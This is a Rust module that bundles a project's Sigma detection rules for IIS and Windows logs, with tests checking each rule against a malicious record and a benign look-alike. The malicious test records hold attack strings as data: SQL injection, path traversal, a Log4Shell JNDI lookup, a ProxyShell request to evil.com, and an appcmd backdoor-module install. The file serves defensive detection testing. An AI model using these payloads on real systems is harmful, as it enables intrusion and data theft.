//! The project's own rules, in Sigma format (ids in the project's
//! namespace, `author: faultline`), compiled into the binary. Each has a
//! test that fires and one that does not (`tests` below).

/// (file name, YAML) of every bundled rule.
pub const BUNDLED: &[(&str, &str)] = &[
    ("iis_config_module_added.yml", include_str!("../rules/iis_config_module_added.yml")),
    ("log_cleared.yml", include_str!("../rules/log_cleared.yml")),
    ("new_service_installed.yml", include_str!("../rules/new_service_installed.yml")),
    ("proc_appcmd_module_or_logging.yml", include_str!("../rules/proc_appcmd_module_or_logging.yml")),
    ("proc_w3wp_spawns_shell.yml", include_str!("../rules/proc_w3wp_spawns_shell.yml")),
    ("web_aspnet_client_script.yml", include_str!("../rules/web_aspnet_client_script.yml")),
    ("web_exchange_proxyshell.yml", include_str!("../rules/web_exchange_proxyshell.yml")),
    ("web_known_webshell_names.yml", include_str!("../rules/web_known_webshell_names.yml")),
    ("web_log4shell.yml", include_str!("../rules/web_log4shell.yml")),
    ("web_path_traversal.yml", include_str!("../rules/web_path_traversal.yml")),
    ("web_sql_injection.yml", include_str!("../rules/web_sql_injection.yml")),
    ("web_tunna_tunnel.yml", include_str!("../rules/web_tunna_tunnel.yml")),
];

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use faultline_parser::winevent::{DataValue, WinEvent};

    use crate::record::{View, WebRow};
    use crate::{Engine, LoadReport};

    fn engine() -> Engine {
        let mut report = LoadReport::default();
        report.add_bundled();
        assert!(report.skipped.is_empty(), "{:?}", report.skipped);
        Engine::new(report.rules)
    }

    /// The file names of the bundled rules the view matches.
    fn fired(engine: &Engine, view: &View) -> Vec<String> {
        let mut hits = Vec::new();
        engine.matches(view, &mut hits);
        hits.iter().map(|&i| engine.rules()[i].meta.origin.replace("bundled:", "")).collect()
    }

    fn web(row: WebRow<'_>) -> View {
        let mut v = View::default();
        v.web(&row);
        v
    }

    fn get(stem: &str, query: Option<&str>) -> View {
        web(WebRow { method: Some("GET"), stem: Some(stem), query, status: Some("200"), ..WebRow::default() })
    }

    fn event(channel: &str, provider: &str, id: u16, data: &[(&str, &str)]) -> View {
        let e = WinEvent {
            channel: Some(Arc::from(channel)),
            provider: Arc::from(provider),
            event_id: id,
            data: data
                .iter()
                .map(|(n, v)| DataValue { name: Some(Arc::from(*n)), value: Arc::from(*v) })
                .collect(),
            ..WinEvent::default()
        };
        let mut v = View::default();
        v.event(&e);
        v
    }

    /// Each rule, a record it must fire on and its look-alike that must not.
    #[test]
    fn every_bundled_rule_fires_on_its_case_and_not_on_the_look_alike() {
        let e = engine();
        let cases: Vec<(&str, View, View)> = vec![
            (
                "web_aspnet_client_script.yml",
                get("/aspnet_client/system_web/4_0_30319/update.aspx", None),
                get("/aspnet_client/system_web/4_0_30319/WebUIValidation.js", None),
            ),
            (
                "web_known_webshell_names.yml",
                get("/uploads/ASPXSpy.aspx", None),
                get("/Account/Login.aspx", None),
            ),
            (
                "web_tunna_tunnel.yml",
                get("/erp/conn.aspx", Some("proxy&port=3389&ip=127.0.0.1")),
                get("/erp/orders.aspx", Some("view=proxy-settings")),
            ),
            (
                "web_sql_injection.yml",
                get("/products.aspx", Some("id=1+UNION+SELECT+name,password+FROM+users--")),
                get("/search", Some("q=shoes&sort=price+order+by+desc")),
            ),
            (
                "web_path_traversal.yml",
                get("/download.aspx", Some("file=..%2f..%2f..%2fwindows/win.ini")),
                get("/docs/guide.pdf", Some("page=2")),
            ),
            (
                "web_log4shell.yml",
                web(WebRow {
                    stem: Some("/"),
                    user_agent: Some("${${lower:j}ndi:ldap://x.example/a}"),
                    ..WebRow::default()
                }),
                web(WebRow {
                    stem: Some("/"),
                    user_agent: Some("Mozilla/5.0+(Windows+NT+10.0)"),
                    ..WebRow::default()
                }),
            ),
            (
                "web_exchange_proxyshell.yml",
                get(
                    "/autodiscover/autodiscover.json",
                    Some("@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com"),
                ),
                get("/autodiscover/autodiscover.xml", None),
            ),
            (
                "proc_w3wp_spawns_shell.yml",
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\cmd.exe"),
                        ("ParentImage", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                    ],
                ),
                event(
                    "Microsoft-Windows-Sysmon/Operational",
                    "Microsoft-Windows-Sysmon",
                    1,
                    &[
                        ("Image", "C:\\Windows\\System32\\csc.exe"),
                        ("ParentImage", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                    ],
                ),
            ),
            (
                "proc_appcmd_module_or_logging.yml",
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4688,
                    &[
                        ("NewProcessName", "C:\\Windows\\System32\\inetsrv\\appcmd.exe"),
                        ("CommandLine", "appcmd.exe install module /name:Backdoor /image:C:\\Temp\\b.dll"),
                    ],
                ),
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4688,
                    &[
                        ("NewProcessName", "C:\\Windows\\System32\\inetsrv\\appcmd.exe"),
                        ("CommandLine", "appcmd.exe recycle apppool /apppool.name:ShopPool"),
                    ],
                ),
            ),
            (
                "iis_config_module_added.yml",
                event(
                    "Microsoft-IIS-Configuration/Operational",
                    "Microsoft-IIS-Configuration",
                    29,
                    &[("Configuration", "/system.webServer/globalModules/add[@name='Backdoor']")],
                ),
                event(
                    "Microsoft-IIS-Configuration/Operational",
                    "Microsoft-IIS-Configuration",
                    29,
                    &[("Configuration", "/system.webServer/defaultDocument/files")],
                ),
            ),
            (
                "log_cleared.yml",
                event("Security", "Microsoft-Windows-Eventlog", 1102, &[]),
                event("Security", "Microsoft-Windows-Security-Auditing", 4624, &[]),
            ),
            (
                "new_service_installed.yml",
                event("System", "Service Control Manager", 7045, &[("ServiceName", "tunnel")]),
                event("System", "Service Control Manager", 7036, &[("param1", "tunnel")]),
            ),
        ];
        let mut names: Vec<&str> = super::BUNDLED.iter().map(|(n, _)| *n).collect();
        for (rule, fires, quiet) in &cases {
            assert!(fired(&e, fires).iter().any(|f| f == rule), "{rule} must fire");
            assert!(!fired(&e, quiet).iter().any(|f| f == rule), "{rule} must not fire on its look-alike");
            names.retain(|n| n != rule);
        }
        assert!(names.is_empty(), "bundled rules without a test: {names:?}");
    }

    #[test]
    fn bundled_rules_carry_the_projects_identity() {
        for r in engine().rules() {
            assert_eq!(r.meta.author.as_deref(), Some("faultline"), "{}", r.meta.title);
            assert!(!r.meta.techniques.is_empty(), "{}", r.meta.title);
            assert!(r.meta.techniques.iter().all(|t| t.starts_with('T')), "{:?}", r.meta.techniques);
        }
    }
}
